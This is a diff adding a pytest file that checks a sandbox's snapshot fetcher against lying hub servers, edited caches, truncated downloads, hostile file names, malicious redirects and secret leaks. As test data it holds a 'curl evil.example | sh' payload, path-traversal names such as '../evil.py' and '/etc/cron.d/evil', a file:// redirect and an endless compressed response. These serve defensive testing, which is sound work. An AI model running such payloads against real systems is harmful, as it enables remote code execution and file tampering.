@@ -1,0 +1,404 @@
+"""A pin is verified, not believed: lying servers, edited caches, broken downloads."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import subprocess
+import traceback
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from envhub_sandbox.errors import (
+    HubReferenceError,
+    RepositoryUnavailableError,
+    SnapshotError,
+    SnapshotIntegrityError,
+    SnapshotTooLargeError,
+)
+from envhub_sandbox.hub.cache import remove_tree
+from envhub_sandbox.hub.reference import HubRef
+from envhub_sandbox.hub.snapshot import SnapshotLimits, fetch
+from tests.hub.stub_hub import StubHub, StubRepository
+from tests.integration.hub.conftest import Fetch
+
+_MIB = 1 << 20
+EVIL = b"import os; os.system('curl evil.example | sh')\n"
+GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
+
+
+@pytest.fixture
+def get(get: Fetch, repository: StubRepository) -> Fetch:
+    """``fetch`` at the repository's commit."""
+    return lambda **rest: get(f"models/org/repo@{repository.commit}", **rest)
+
+
+def stored_files(store: Path) -> list[Path]:
+    """All files in the store."""
+    return [path for path in store.rglob("*") if path.is_file()]
+
+
+def requests_for_files(stub_hub: StubHub) -> list[str]:
+    """The requests for contents so far."""
+    return [request for request in stub_hub.requests if "/resolve/" in request]
+
+
+@pytest.mark.parametrize("lie", [EVIL, EVIL.ljust(len(GOOD))[: len(GOOD)]])
+def test_other_content_than_the_pinned_commit_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path, lie: bytes
+) -> None:
+    """A server that serves other bytes for a pinned commit, of any length, is found out."""
+    repository.served["env.py"] = lie
+    with pytest.raises(SnapshotIntegrityError) as caught:
+        get()
+    assert "env.py" in str(caught.value)
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+
+
+def test_other_commit_than_the_pinned_one_is_refused(stub_hub: StubHub, get: Fetch) -> None:
+    """A server that resolves a full commit to another one is not followed."""
+    pinned = get().commit
+    repository = stub_hub.repositories["model", "org/repo"]
+    repository.commit, repository.refs = "b" * 40, {"a" * 40}
+    ref = HubRef("org/repo", "a" * 40, repo_type="model")
+    with pytest.raises(SnapshotIntegrityError, match=r"another commit, b{40}"):
+        fetch(ref, token=False, endpoint=stub_hub.endpoint)
+    assert pinned != repository.commit
+
+
+@pytest.mark.parametrize("damage", ["edited", "lost"])
+def test_damaged_hub_cache_is_repaired_from_the_hub(
+    stub_hub: StubHub, get: Fetch, hub_cache: Path, snapshot_store: Path, damage: str
+) -> None:
+    """A blob of the Hub cache that somebody edited or removed is noticed, and fetched again."""
+    first = get()
+    blob = next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD)
+    blob.chmod(0o644)
+    blob.write_bytes(EVIL) if damage == "edited" else blob.unlink()
+    remove_tree(snapshot_store)
+    before = len(requests_for_files(stub_hub))
+    assert (get().root / "env.py").read_bytes() == GOOD
+    assert blob.read_bytes() == GOOD
+    again = requests_for_files(stub_hub)[before:]
+    assert {request.rpartition("/")[2] for request in again} == {"env.py"}
+    assert first.commit == get().commit
+
+
+def test_hub_cache_may_be_named_from_the_home_folder(
+    get: Fetch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A ``~`` in hub_cache_dir is the home folder, in every version of the client."""
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.chdir(tmp_path)
+    get(hub_cache_dir="~/hf")
+    assert (tmp_path / "hf" / "models--org--repo").is_dir()
+    assert not (tmp_path / "~").exists()
+
+
+def test_edited_hub_cache_does_not_reach_the_store(get: Fetch, hub_cache: Path) -> None:
+    """The store's files are copies: an edit of the Hub cache changes none of them."""
+    snapshot = get()
+    for blob in hub_cache.rglob("blobs/*"):
+        blob.chmod(0o644)
+        blob.write_bytes(EVIL)
+    assert get() == snapshot
+    assert (snapshot.root / "env.py").read_bytes() == GOOD
+
+
+def test_edited_file_of_the_store_is_refused_until_removed(get: Fetch) -> None:
+    """A changed file stops every use, and the command in the error brings the truth back."""
+    snapshot = get()
+    entry = snapshot.root / "env.py"
+    entry.chmod(0o644)
+    entry.write_bytes(EVIL.ljust(len(GOOD))[: len(GOOD)])
+    for _ in range(2):
+        with pytest.raises(SnapshotIntegrityError, match=r"'env\.py' was changed") as caught:
+            get()
+    _run_advice(str(caught.value))
+    assert (get().root / "env.py").read_bytes() == GOOD
+
+
+def test_half_deleted_snapshot_is_fetched_again(get: Fetch, stub_hub: StubHub) -> None:
+    """Where the Hub gives it; where it does not, the error says both."""
+    snapshot = get()
+    snapshot.root.chmod(0o755)
+    (snapshot.root / "env.py").unlink()
+    stub_hub.fail("/api/models/", 403)
+    with pytest.raises(RepositoryUnavailableError, match=r"'env\.py' is missing") as caught:
+        get()
+    assert "That was tried" in str(caught.value)
+    stub_hub.faults.clear()
+    assert (get().root / "env.py").read_bytes() == GOOD
+
+
+@pytest.mark.parametrize("fields", [{"size": 3}, {"oid": "a" * 40}, {"size": 10**6}])
+def test_listing_that_does_not_fit_the_content_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path, fields: dict[str, Any]
+) -> None:
+    """A listing with another size or blob id than the file's is not accepted."""
+    repository.listed["env.py"] = fields
+    with pytest.raises((SnapshotIntegrityError, RepositoryUnavailableError)) as caught:
+        get()
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+
+
+def test_truncated_download_is_refused(
+    repository: StubRepository, get: Fetch, snapshot_store: Path
+) -> None:
+    """A connection that ends half way leaves an error and nothing in the store."""
+    repository.truncated.add("assets/mesh.bin")
+    with pytest.raises((RepositoryUnavailableError, SnapshotIntegrityError)) as caught:
+        get()
+    assert repository.commit in str(caught.value)
+    assert not stored_files(snapshot_store)
+    repository.truncated.clear()
+    assert (get().root / "assets/mesh.bin").read_bytes() == b"m" * 5000
+
+
+@pytest.mark.parametrize(
+    ("limits", "name"),
+    [
+        (SnapshotLimits(max_files=1), "max_files=1"),
+        (SnapshotLimits(max_bytes=5001), "max_bytes=5001"),
+        (SnapshotLimits(max_file_bytes=4999), "max_file_bytes=4999"),
+    ],
+)
+def test_repository_over_a_limit_is_refused_before_the_download(
+    stub_hub: StubHub, get: Fetch, limits: SnapshotLimits, name: str
+) -> None:
+    """The listing decides; no content is asked for, and the error names the limit."""
+    with pytest.raises(SnapshotTooLargeError, match=name):
+        get(limits=limits)
+    assert not requests_for_files(stub_hub)
+
+
+def test_limits_hold_for_stored_snapshots_too(get: Fetch) -> None:
+    """A snapshot that came under wider limits does not pass narrower ones."""
+    get()
+    with pytest.raises(SnapshotTooLargeError, match="max_files=1"):
+        get(limits=SnapshotLimits(max_files=1))
+
+
+def test_endless_listing_is_left_at_the_limit(stub_hub: StubHub, get: Fetch) -> None:
+    """A listing in pages is read only until it is too long."""
+    stub_hub.add("org/repo", {"env.py": GOOD, **{f"f{n}": b"" for n in range(50)}})
+    stub_hub.page_size = 2
+    with pytest.raises(SnapshotTooLargeError, match="max_files=5"):
+        get(limits=SnapshotLimits(max_files=5))
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 3
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../evil.py",
+        "a/../../evil.py",
+        "/etc/cron.d/evil",
+        "a//b",
+        "./a",
+        "a\\..\\b",
+        "a\nb",
+        "a\x00b",
+    ],
+)
+def test_hostile_name_is_refused_before_the_download(
+    stub_hub: StubHub, repository: StubRepository, get: Fetch, name: str
+) -> None:
+    """A name that could leave the tree or hide never becomes a path here."""
+    repository.files[name] = EVIL
+    with pytest.raises(SnapshotError, match="refused"):
+        get()
+    assert not requests_for_files(stub_hub)
+
+
+@pytest.mark.parametrize(
+    "fields", [{"size": -1}, {"size": "9"}, {"oid": "../x"}, {"path": None}, {"lfs": {"oid": 1}}]
+)
+def test_malformed_listing_is_refused(
+    repository: StubRepository, get: Fetch, fields: dict[str, Any]
+) -> None:
+    """Fields of the wrong type or form are named, not guessed at."""
+    repository.listed["env.py"] = fields
+    with pytest.raises(SnapshotIntegrityError, match="listing has an entry"):
+        get()
+
+
+def test_xet_announcement_without_a_xet_service_falls_back_to_http(
+    stub_hub: StubHub, repository: StubRepository, get: Fetch
+) -> None:
+    """A mirror that passes the Xet headers on but not the service still serves over HTTP."""
+    repository.head_headers = {
+        "X-Xet-Hash": "a" * 64,
+        "Link": f'<{stub_hub.endpoint}/api/models/org/repo/xet-read-token/x>; rel="xet-auth"',
+        "X-Xet-Refresh-Route": "/api/models/org/repo/xet-read-token/x",
+    }
+    stub_hub.fail("xet-read-token", 404)
+    assert (get().root / "env.py").read_bytes() == GOOD
+    from huggingface_hub import constants
+
+    assert constants.HF_HUB_DISABLE_XET is False
+
+
+def outside(tmp_path: Path) -> list[str]:
+    """What was written beside the Hub cache and the store."""
+    return sorted(set(os.listdir(tmp_path)) - {"hub-cache", "envhub-cache"})
+
+
+@pytest.mark.parametrize("absent", [False, True])
+def test_headers_do_not_write_outside_the_hub_cache(
+    stub_hub: StubHub,
+    repository: StubRepository,
+    get: Fetch,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    absent: bool,
+) -> None:
+    """The Hub client makes paths of ETag and X-Repo-Commit; the control shows it."""
+    if absent:
+        headers = {"X-Repo-Commit": "../../../evil", "X-Error-Code": "EntryNotFound"}
+        stub_hub.fail("resolve/.*env.py", 404, headers=headers)
+    else:
+        repository.head_headers = {"ETag": '"../../../evil"'}
+    with pytest.raises(SnapshotIntegrityError, match=r"header (ETag|X-Repo-Commit) .*evil"):
+        get()
+    assert outside(tmp_path) == []
+    monkeypatch.setattr("envhub_sandbox.hub.client.guarded", lambda _: contextlib.nullcontext())
+    with contextlib.suppress(SnapshotError):
+        get()
+    assert "evil" in outside(tmp_path)
+
+
+def test_listing_is_asked_for_once(stub_hub: StubHub, get: Fetch) -> None:
+    """A second one could have other names and sizes than those that were judged."""
+    get()
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 1
+
+
+def _spaces() -> Iterator[bytes]:
+    yield from (b" " * _MIB for _ in range(256))
+
+
+def _packed() -> Iterator[bytes]:
+    packer = zlib.compressobj(9, wbits=31)
+    for piece in _spaces():
+        if packed := packer.compress(piece):
+            yield packed
+    yield packer.flush()
+
+
+@pytest.mark.parametrize("where", ["/revision/", "/tree/"])
+@pytest.mark.parametrize("packed", [False, True])
+def test_endless_answer_is_left(stub_hub: StubHub, get: Fetch, where: str, packed: bool) -> None:
+    """No more of it is taken than a listing has; the control takes it all."""
+    headers = {"Content-Type": "application/json"}
+    if packed:
+        headers["Content-Encoding"] = "gzip"
+    stub_hub.fail(where, 200, headers=headers, pieces=_packed if packed else _spaces)
+    with pytest.raises(SnapshotIntegrityError, match="an answer has over"):
+        get()
+    assert packed or stub_hub.sent < 128 * _MIB
+    taken = len(plain_get(f"{stub_hub.endpoint}/api/models/org/repo/tree/main/revision/x"))
+    assert taken == 256 * _MIB
+
+
+def plain_get(url: str) -> bytes:
+    """As the Hub client asks."""
+    from huggingface_hub.utils import get_session
+
+    return bytes(get_session().get(url, timeout=60).content)
+
+
+def test_endless_pages_without_files_are_left(
+    stub_hub: StubHub,
+    repository: StubRepository,
+    get: Fetch,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """They count for no limit of ours, and each names a next one."""
+    folders = [{"type": "directory", "oid": "d" * 40, "size": 0, "path": "a"}] * 1000
+    monkeypatch.setattr("envhub_sandbox.hub.client.MAX_IDLE_PAGES", 20)
+    monkeypatch.setattr(repository, "tree", lambda: folders)
+    stub_hub.page_size = 1
+    with pytest.raises(SnapshotIntegrityError, match="listing has no end"):
+        get()
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 21
+
+
+@pytest.mark.parametrize(
+    "body", [b"[" * 100_000, b"{}", b"7", b'[{"size": 1' + b"0" * 5000 + b"}]"]
+)
+def test_other_json_than_a_listing_is_refused(stub_hub: StubHub, get: Fetch, body: bytes) -> None:
+    """Too deep, too large a number, no list: an error of ours that names the repository."""
+    stub_hub.fail("/tree/", 200, pieces=lambda: [body])
+    with pytest.raises(SnapshotError, match="org/repo"):
+        get()
+
+
+@pytest.mark.parametrize("location", ["file:///etc/hostname", "ftp://x.invalid/", "{other}/steal"])
+@pytest.mark.parametrize("where", ["/revision/", "/tree/", "/resolve/"])
+def test_redirect_takes_no_token_along(
+    stub_hub: StubHub, get: Fetch, where: str, location: str, snapshot_store: Path
+) -> None:
+    """Nothing but http is followed, and another host is asked without the token."""
+    with StubHub() as other:
+        # another name is another host; the same one with another port may be sent the token
+        target = location.format(other=other.endpoint.replace("127.0.0.1", "localhost"))
+        stub_hub.fail(where, 302, headers={"Location": target})
+        with pytest.raises(SnapshotError):
+            get(token="hf_secret")
+        assert set(other.authorizations) <= {None}
+        assert "Bearer hf_secret" in stub_hub.authorizations
+    assert not stored_files(snapshot_store)
+
+
+def test_names_that_differ_little_are_different_files(
+    repository: StubRepository, get: Fetch
+) -> None:
+    """Case, Unicode's normal forms, other systems' devices: here they are names like others."""
+    names = ["A.py", "a.py", "\u00e9.txt", "e\u0301.txt", "CON", "aux.txt", "nul", "a b ", "*[x]?"]
+    repository.files |= {name: name.encode() for name in names}
+    snapshot = get()
+    assert {name: (snapshot.root / name).read_bytes() for name in names} == {
+        name: name.encode() for name in names
+    }
+
+
+@pytest.mark.parametrize("what", ["/revision/", "/resolve/", "nothing listens"])
+def test_secrets_are_in_no_traceback(
+    stub_hub: StubHub, get: Fetch, what: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A token that the Hub echoes, and a login in the endpoint's address."""
+    soon = {"Retry-After": "0"}  # else huggingface_hub asks again later each time
+    endpoint = stub_hub.endpoint.replace("//", "//jane:hunter2@")
+    token = "_".join(["hf", "secret"])
+    stub_hub.fail(what, 500, headers={"X-Error-Message": f"no {token}, hunter2", **soon})
+    if what == "nothing listens":
+        stub_hub.stop()
+    with caplog.at_level("DEBUG"), pytest.raises(SnapshotError) as caught:
+        get(token=token, endpoint=endpoint)
+    said = "".join(traceback.format_exception(caught.value)) + repr(caught.value)
+    ours = [record for record in caplog.records if record.name.startswith("envhub")]
+    said += "".join(record.getMessage() for record in ours)
+    assert token not in said
+    assert "hunter2" not in said
+
+
+def test_a_login_in_a_bad_endpoint_is_not_shown() -> None:
+    """The error is about the rest."""
+    with pytest.raises(HubReferenceError) as caught:
+        fetch(HubRef("org/repo"), endpoint="htps://jane:hunter2@host")
+    assert "hunter2" not in str(caught.value)
+    assert "host" in str(caught.value)
+
+
+def _run_advice(message: str) -> None:
+    """Carry out the command that an error ends with."""
+    command = message.rpartition("fetched again: ")[2]
+    assert command.startswith("chmod -R u+w ")
+    subprocess.run(command, shell=True, check=True)
